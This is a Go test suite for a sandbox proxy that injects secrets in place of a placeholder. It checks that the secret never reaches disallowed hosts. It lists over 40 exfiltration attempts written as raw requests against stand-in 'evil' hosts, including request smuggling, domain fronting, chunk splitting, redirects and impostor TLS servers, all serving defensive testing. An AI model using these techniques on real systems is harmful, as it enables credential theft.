package proxy

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/microsandbox-go/microsandbox/internal/network/secret"
	"github.com/microsandbox-go/microsandbox/sandbox"
)

const (
	placeholder = "$MSB_API_KEY"
	value       = "real-value-of-the-secret"
)

// keySecret is one secret for good, with everything that can be opted into.
func keySecret(change func(*sandbox.Secrets)) *sandbox.Secrets {
	yes := true
	s := &sandbox.Secrets{Secrets: []sandbox.Secret{{EnvVar: "API_KEY", Placeholder: placeholder,
		AllowedHosts: []sandbox.HostPattern{{Exact: good}}, Injection: sandbox.Injection{QueryParams: &yes, Body: &yes}}}}
	if change != nil {
		change(s)
	}
	return s
}

// scene is a bed with a good server and several others, of which none but the good one must ever see the value.
type scene struct {
	*bed
	c     *http.Client
	good  *site
	other map[string]*site
	raw   bytes.Buffer // what came to servers that are not of HTTP
}

func newScene(t *testing.T, o opts) *scene {
	if o.tls == nil {
		o.tls = on
	}
	if o.secrets == nil {
		o.secrets = keySecret(nil)
	}
	o.values = []string{value}
	o.names = map[string][]string{good + ".evil.test": {evilIP}, "rebound.test": {evilIP}}
	b := newBed(t, o)
	s := &scene{bed: b, c: b.client(nil), other: map[string]*site{}}
	answer := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		if to := r.URL.Query().Get("to"); to != "" {
			http.Redirect(w, r, to, http.StatusTemporaryRedirect)
			return
		}
		fmt.Fprintf(w, "hello from %s", r.Host)
	})
	s.good = b.serve(goodIP+":443", answer, good, "shared.test", "sub."+good)
	s.other["evil"] = b.serve(evilIP+":443", answer, evil, "rebound.test", good+".evil.test")
	s.other["plain good"] = b.serve(goodIP+":80", answer)
	s.other["plain evil"] = b.serve(evilIP+":80", answer)
	s.other["a mirror with a valid certificate"] = b.serve(otherIP+":443", answer, good, other)
	self := newOwn(t)
	theirs := b.servers
	b.servers = self.issuer
	s.other["impostor"] = b.serve("192.0.2.9:443", answer, good)
	b.servers = theirs
	note := func(c net.Conn) {
		buf := make([]byte, 4096)
		for {
			n, err := c.Read(buf)
			b.mu.Lock()
			s.raw.Write(buf[:n])
			b.mu.Unlock()
			if n > 0 {
				fmt.Fprint(c, "ok\n")
			}
			if err != nil {
				return
			}
		}
	}
	secure := func(name string, alpn ...string) func(c net.Conn) {
		return func(c net.Conn) {
			cert, _ := b.servers.certificate(name)
			note(tls.Server(c, &tls.Config{Certificates: []tls.Certificate{*cert}, NextProtos: alpn}))
		}
	}
	b.listen(evilIP+":9999", note)
	b.listen(goodIP+":9999", note)
	b.listen(goodIP+":8443", secure(good))
	b.listen("192.0.2.10:443", secure(evil, "mqtt"))
	b.listen("192.0.2.11:443", secure(good, "mqtt"))
	b.mu.Lock()
	b.names["mqtt."+evil], b.names["mqtt."+good] = []string{"192.0.2.10"}, []string{"192.0.2.11"}
	b.mu.Unlock()
	for n := range b.names {
		_, _ = b.resolve(n)
	}
	return s
}

// do sends a request and returns what was answered.
func (s *scene) do(method, url string, body io.Reader, header ...string) string {
	r, err := http.NewRequest(method, url, body)
	must(s.t, err)
	for i := 0; i < len(header); i += 2 {
		if header[i] == "Host" {
			r.Host = header[i+1]
			continue
		}
		r.Header.Add(header[i], header[i+1])
	}
	status, text := get(s.c, r)
	return fmt.Sprint(status, " ", text)
}

// rawTLS sends text in TLS to an address, asking for name, and returns what comes back. The connection stays open until the test
// has ended, so that all of text is looked at, however early the server answers.
func (s *scene) rawTLS(address, name, text string, alpn ...string) string {
	raw, err := s.dial(context.Background(), address)
	if err != nil {
		return err.Error()
	}
	s.t.Cleanup(func() { _ = raw.Close() })
	_ = raw.SetDeadline(time.Now().Add(3 * time.Second))
	c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, ServerName: name, NextProtos: alpn})
	return exchange(c, text)
}

// rawTCP is rawTLS without TLS, in several writes.
func (s *scene) rawTCP(address string, pieces ...string) string {
	c, err := s.dial(context.Background(), address)
	if err != nil {
		return err.Error()
	}
	s.t.Cleanup(func() { _ = c.Close() })
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	return exchange(c, pieces...)
}

func exchange(c net.Conn, pieces ...string) string {
	for _, p := range pieces {
		if _, err := io.WriteString(c, p); err != nil {
			return err.Error()
		}
	}
	line, err := bufio.NewReader(c).ReadString('\n')
	return fmt.Sprint(line, err)
}

func gz(text string) io.Reader {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = io.WriteString(w, text)
	_ = w.Close()
	return &b
}

// attack is a way to get the value to where it must not go, tried in a scene of its own.
type attack struct {
	do    func(s *scene) string
	quiet bool // it is no violation: the placeholder goes there as it is, or nothing was sent
	good  bool // the value goes to the good server, too
}

var attacks = map[string]attack{
	"header": {do: func(s *scene) string {
		return s.do("GET", "https://"+evil+"/", nil, "Authorization", "Bearer "+placeholder)
	}},
	"another header": {do: func(s *scene) string { return s.do("GET", "https://"+evil+"/", nil, "X-A", "b", "X-C", placeholder) }},
	"header's name":  {do: func(s *scene) string { return s.do("GET", "https://"+evil+"/", nil, placeholder, "x") }},
	"cookie":         {do: func(s *scene) string { return s.do("GET", "https://"+evil+"/", nil, "Cookie", "a="+placeholder) }},
	"basic authentication": {do: func(s *scene) string {
		return s.do("GET", "https://"+evil+"/", nil, "Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("me:"+placeholder)))
	}},
	"base64 in a header": {do: func(s *scene) string {
		return s.do("GET", "https://"+evil+"/", nil, "X", base64.StdEncoding.EncodeToString([]byte("ab"+placeholder+"c")))
	}},
	"query": {do: func(s *scene) string { return s.do("GET", "https://"+evil+"/?q="+url.QueryEscape(placeholder), nil) }},
	"path":  {do: func(s *scene) string { return s.do("GET", "https://"+evil+"/"+placeholder, nil) }},
	"body":  {do: func(s *scene) string { return s.do("POST", "https://"+evil+"/", strings.NewReader("x="+placeholder)) }},
	"large body": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", strings.NewReader(strings.Repeat("x", 3<<20)+placeholder))
	}},
	"chunked body": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", io.MultiReader(strings.NewReader("$MSB_"), strings.NewReader("API_KEY")))
	}},
	"gzip": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", gz(placeholder), "Content-Encoding", "gzip")
	}},
	"gzip that says it is not": {do: func(s *scene) string { return s.do("POST", "https://"+evil+"/", gz(placeholder)) }, quiet: true},
	"unknown encoding": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", strings.NewReader("x"), "Content-Encoding", "br")
	}},
	"JSON escapes": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", strings.NewReader(`{"k":"\u0024MSB_API\u005fKEY"}`))
	}},
	"trailer": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "POST / HTTP/1.1\r\nHost: "+evil+"\r\nTransfer-Encoding: chunked\r\nTrailer: X\r\n\r\n1\r\na\r\n0\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"split chunks": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "POST / HTTP/1.1\r\nHost: "+evil+"\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n$MSB_\r\n3;x=y\r\nAPI\r\n4\r\n_KEY\r\n0\r\n\r\n")
	}},
	"folded header": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+evil+"\r\nX: a\r\n "+placeholder+"\r\n\r\n")
	}},
	"multipart": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", strings.NewReader("--b\r\nContent-Transfer-Encoding: base64\r\n\r\n"+base64.StdEncoding.EncodeToString([]byte(placeholder))+"\r\n--b--"), "Content-Type", "multipart/form-data; boundary=b")
	}},
	"a server that asks to wait": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", strings.NewReader(placeholder), "Expect", "100-continue")
	}},
	"upgrade": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+evil+"\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"plain HTTP to the allowed host": {do: func(s *scene) string { return s.do("GET", "http://"+good+"/", nil, "X", placeholder) }},
	"plain HTTP elsewhere":           {do: func(s *scene) string { return s.do("GET", "http://"+evil+"/", nil, "X", placeholder) }},
	"plain HTTP, fronting":           {do: func(s *scene) string { return s.do("GET", "http://"+evil+"/", nil, "X", placeholder, "Host", good) }},
	"plain HTTP, an absolute URL": {do: func(s *scene) string {
		return s.rawTCP(evil+":80", "GET https://"+good+"/ HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"plain HTTP, a proxy's CONNECT": {do: func(s *scene) string {
		return s.rawTCP(evil+":80", "CONNECT "+good+":443 HTTP/1.1\r\nHost: "+good+":443\r\n\r\n")
	}},
	"HTTP/1.0 without a host": {do: func(s *scene) string { return s.rawTCP(good+":80", "GET / HTTP/1.0\r\nX: "+placeholder+"\r\n\r\n") }},
	"fronting":                {do: func(s *scene) string { return s.do("GET", "https://"+good+"/", nil, "X", placeholder, "Host", evil) }},
	"the other way round":     {do: func(s *scene) string { return s.do("GET", "https://"+evil+"/", nil, "X", placeholder, "Host", good) }},
	"fronting on a used connection": {do: func(s *scene) string {
		s.do("GET", "https://"+evil+"/first", nil)
		return s.do("GET", "https://"+evil+"/", nil, "X", placeholder, "Host", good)
	}},
	"an absolute URL in TLS": {do: func(s *scene) string {
		return s.rawTLS(good+":443", good, "GET http://"+evil+"/ HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"two hosts": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+good+"\r\nHost: "+evil+"\r\nX: "+placeholder+"\r\n\r\n")
	}, quiet: true},
	"two lengths": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "POST / HTTP/1.1\r\nHost: "+evil+"\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
	}, quiet: true},
	"the allowed name at a server that is not it": {do: func(s *scene) string {
		return s.rawTLS(evilIP+":443", good, "GET / HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"the allowed name at an impostor": {do: func(s *scene) string {
		return s.rawTLS("192.0.2.9:443", good, "GET / HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"the allowed name where it was never resolved to": {do: func(s *scene) string {
		return s.rawTLS(otherIP+":443", good, "GET / HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"no name": {do: func(s *scene) string {
		return s.rawTLS(goodIP+":443", "", "GET / HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"another name on the allowed host's address": {do: func(s *scene) string { return s.do("GET", "https://shared.test/", nil, "X", placeholder) }},
	"a name below the allowed one":               {do: func(s *scene) string { return s.do("GET", "https://sub."+good+"/", nil, "X", placeholder) }},
	"a name that begins with the allowed one":    {do: func(s *scene) string { return s.do("GET", "https://"+good+".evil.test/", nil, "X", placeholder) }},
	"a redirect": {do: func(s *scene) string {
		c := *s.c
		c.CheckRedirect = nil
		r := request(s.t, "GET", "https://"+good+"/?to="+url.QueryEscape("https://"+evil+"/?k="+placeholder), nil)
		r.Header.Set("Authorization", placeholder)
		_, text := get(&c, r)
		return text
	}, good: true},
	"what a redirect brings back": {do: func(s *scene) string {
		res, err := s.c.Get("https://" + good + "/?to=" + url.QueryEscape("https://"+evil+"/?k="+placeholder))
		must(s.t, err)
		res.Body.Close()
		return s.do("GET", res.Header.Get("Location"), nil)
	}, good: true},
	"another protocol in TLS":               {do: func(s *scene) string { return s.rawTLS("mqtt."+evil+":443", evil, "\x10\x20MQTT "+placeholder, "mqtt") }},
	"another protocol, to the allowed host": {do: func(s *scene) string { return s.rawTLS("mqtt."+good+":443", good, "\x10\x20MQTT "+placeholder, "mqtt") }},
	"a TCP connection in pieces":            {do: func(s *scene) string { return s.rawTCP(evil+":9999", "\x01hello $MSB", "_API_", "KEY and more") }},
	"a TCP connection, base64": {do: func(s *scene) string {
		return s.rawTCP(goodIP+":9999", "\x01"+base64.StdEncoding.EncodeToString([]byte("abc"+placeholder)))
	}},
	"TLS where nobody looks": {do: func(s *scene) string {
		return s.rawTLS(good+":8443", good, "GET / HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
	}, quiet: true},
}

// neverSaw checks that none but the good server was sent the value.
func (s *scene) neverSaw(what string) {
	s.t.Helper()
	forms := []string{value, base64.StdEncoding.EncodeToString([]byte("me:" + value)), url.QueryEscape(value)}
	for name, o := range s.other {
		for _, f := range forms {
			if o.saw(f) {
				s.t.Errorf("%s: the server %q was sent the value: %s", what, name, &o.got)
			}
		}
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if bytes.Contains(s.raw.Bytes(), []byte(value)) {
		s.t.Errorf("%s: a server was sent the value: %q", what, &s.raw)
	}
	for _, e := range s.events {
		if strings.Contains(e, value) {
			s.t.Errorf("%s: an event has the value: %s", what, e)
		}
	}
}

func TestAttacks(t *testing.T) {
	if len(attacks) < 40 {
		t.Errorf("only %d attacks", len(attacks))
	}
	tryAll(t, attacks)
}

func tryAll(t *testing.T, attacks map[string]attack) {
	for name, a := range attacks {
		t.Run(name, func(t *testing.T) {
			s := newScene(t, opts{})
			said := a.do(s)
			s.neverSaw(name)
			if s.good.saw(value) != a.good {
				t.Errorf("the good server was sent the value: %v", !a.good)
			}
			if strings.Contains(said, value) {
				t.Errorf("the guest was told the value: %q", said)
			}
			if !a.quiet && !s.says("denied by policy", "not trusted") {
				t.Errorf("no event of it; the guest was told %q", said)
			}
		})
	}
}

// TestAllowed has the same places lead the value to the server that may see it.
func TestAllowed(t *testing.T) {
	for name, do := range map[string]func(s *scene) string{
		"header": func(s *scene) string {
			return s.do("GET", "https://"+good+"/", nil, "Authorization", "Bearer "+placeholder)
		},
		"basic authentication": func(s *scene) string {
			return s.do("GET", "https://"+good+"/", nil, "Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("me:"+placeholder)))
		},
		"query": func(s *scene) string { return s.do("GET", "https://"+good+"/?q="+url.QueryEscape(placeholder), nil) },
		"body":  func(s *scene) string { return s.do("POST", "https://"+good+"/", strings.NewReader("x="+placeholder)) },
		"chunked body": func(s *scene) string {
			return s.do("POST", "https://"+good+"/", io.MultiReader(strings.NewReader("$MSB_"), strings.NewReader("API_KEY")))
		},
		"split chunks": func(s *scene) string {
			return s.rawTLS(good+":443", good, "POST / HTTP/1.1\r\nHost: "+good+"\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n$MSB_\r\n3\r\nAPI\r\n4\r\n_KEY\r\n0\r\n\r\n")
		},
		"trailer": func(s *scene) string {
			return s.rawTLS(good+":443", good, "POST / HTTP/1.1\r\nHost: "+good+"\r\nTransfer-Encoding: chunked\r\nTrailer: X\r\n\r\n1\r\na\r\n0\r\nX: "+placeholder+"\r\n\r\n")
		},
		"folded header": func(s *scene) string {
			return s.rawTLS(good+":443", good, "GET / HTTP/1.1\r\nHost: "+good+"\r\nX: a\r\n "+placeholder+"\r\n\r\n")
		},
		"other case of the host": func(s *scene) string {
			return s.do("GET", "https://"+good+"/", nil, "X", placeholder, "Host", "API.Good.TEST:443")
		},
	} {
		t.Run(name, func(t *testing.T) {
			s := newScene(t, opts{})
			said := do(s)
			s.neverSaw(name)
			if !s.good.saw(value) && !s.good.saw(base64.StdEncoding.EncodeToString([]byte("me:"+value))) {
				t.Errorf("the good server was not sent the value: %s\nthe guest: %q, events %q", &s.good.got, said, s.events)
			}
			if s.good.saw(placeholder) {
				t.Errorf("it was sent the placeholder, too: %s", &s.good.got)
			}
		})
	}
}

// TestNoProof has the server of the allowed host not verified, which is not enough for a secret that wants proof.
func TestNoProof(t *testing.T) {
	no := false
	for name, tls := range map[string]*sandbox.TLS{
		"none is verified":      {Enabled: true, VerifyUpstream: &no},
		"this one is not":       {Enabled: true, ScopedVerifyUpstream: []sandbox.ScopedVerify{{Pattern: good}}},
		"it is not looked into": {Enabled: true, Bypass: []string{good}},
	} {
		t.Run(name, func(t *testing.T) {
			s := newScene(t, opts{tls: tls})
			said := s.rawTLS(good+":443", good, "GET / HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
			if s.good.saw(value) {
				t.Errorf("the value was sent: %q", said)
			}
		})
	}
	s := newScene(t, opts{secrets: keySecret(func(x *sandbox.Secrets) { x.Secrets[0].RequireTLSIdentity = &no })})
	s.do("GET", "http://"+good+"/", nil, "X", placeholder)
	if !s.other["plain good"].saw(value) {
		t.Error("a secret that wants no proof was not sent in plain HTTP")
	}
	s.do("GET", "http://"+evil+"/", nil, "X", placeholder, "Host", good)
	if s.other["plain evil"].saw(value) {
		t.Error("it was sent to an address that the host's name was not resolved to")
	}
}

func TestOnViolation(t *testing.T) {
	for action, want := range map[string]struct{ blocked, told, ended bool }{
		sandbox.ViolationBlock:        {true, false, false},
		sandbox.ViolationBlockAndLog:  {true, true, false},
		sandbox.ViolationBlockAndStop: {true, true, true},
		sandbox.ViolationPassthrough:  {false, false, false},
	} {
		t.Run(action, func(t *testing.T) {
			s := newScene(t, opts{secrets: keySecret(func(x *sandbox.Secrets) { x.OnViolation.Action = action })})
			said := s.do("GET", "https://"+evil+"/", nil, "X", placeholder)
			if s.other["evil"].saw(placeholder) == want.blocked || s.said("secret API_KEY") != want.told || len(s.ended) > 0 != want.ended {
				t.Errorf("%s; sent %v, events %q, ended %q", said, s.other["evil"].saw(placeholder), s.events, s.ended)
			}
			s.neverSaw(action)
		})
	}
	s := newScene(t, opts{secrets: keySecret(func(x *sandbox.Secrets) {
		x.OnViolation = sandbox.ViolationAction{Action: sandbox.ViolationPassthrough, Hosts: []sandbox.HostPattern{{Exact: evil}}}
	})})
	s.do("GET", "https://"+evil+"/", nil, "X", placeholder)
	s.do("GET", "https://shared.test/", nil, "X", placeholder)
	if !s.other["evil"].saw(placeholder) || s.good.saw(placeholder) || !s.said("secret API_KEY may not go to shared.test") {
		t.Errorf("hosts of a passthrough: %q", s.events)
	}
}

// TestSetSecrets changes the secrets under a connection that is used again: each request has those that there are when it begins.
func TestSetSecrets(t *testing.T) {
	s := newScene(t, opts{})
	send := func() string { return s.do("GET", "https://"+good+"/", nil, "X", placeholder) }
	change := func(value string, f func(*sandbox.Secrets)) {
		set, err := secret.New(keySecret(f), []string{value})
		must(t, err)
		s.proxy.SetSecrets(set)
	}
	if said := send(); !strings.HasPrefix(said, "200") || !s.good.saw(value) {
		t.Fatalf("the first value: %s", said)
	}
	const next = "sk-another-value-of-it"
	change(next, nil)
	if said := send(); !strings.HasPrefix(said, "200") || !s.good.saw(next) {
		t.Errorf("the second value: %s", said)
	}
	change(next, func(x *sandbox.Secrets) { x.Secrets[0].AllowedHosts = []sandbox.HostPattern{{Exact: other}} })
	if said := send(); !strings.HasPrefix(said, "403") || !s.said("secret API_KEY may not go to "+good) {
		t.Errorf("where it may not go any more: %s", said)
	}
	s.proxy.SetSecrets(&secret.Set{})
	if said := send(); !strings.HasPrefix(said, "200") || !s.good.saw(placeholder) {
		t.Errorf("without secrets the placeholder is a text like any other: %s", said)
	}
	s.neverSaw("a change")
}
